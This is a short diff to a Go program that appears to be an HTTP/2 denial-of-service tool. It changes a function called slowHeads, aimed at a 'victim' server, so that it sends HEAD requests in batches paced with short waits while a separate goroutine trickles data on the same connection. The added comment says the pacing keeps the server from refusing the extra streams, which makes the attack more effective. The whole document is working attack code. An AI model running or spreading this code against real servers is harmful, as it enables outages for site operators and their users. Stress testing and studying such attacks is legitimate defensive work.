@@ -10,6 +10,7 @@ import (
 	"errors"
 	"math"
 	"strings"
+	"time"
 
 	"golang.org/x/net/http2"
 )
@@ -56,9 +57,16 @@ func slowHeads(ctx context.Context, v *victim) {
 		ended := make(chan error, 1)
 		go func() { ended <- trickle(ctx, f.Conn) }()
 		for {
-			if _, err := f.request(true, "HEAD", redirected); err != nil {
+			// Not more at once than are answered: the server would refuse the rest.
+			for range streamsPerConnection / 10 {
+				if _, err := f.request(true, "HEAD", redirected); err != nil {
+					return errors.Join(err, <-ended)
+				}
+			}
+			if err := f.send(func() error { return nil }); err != nil {
 				return errors.Join(err, <-ended)
 			}
+			wait(ctx, 2*time.Millisecond)
 		}
 	})
 }
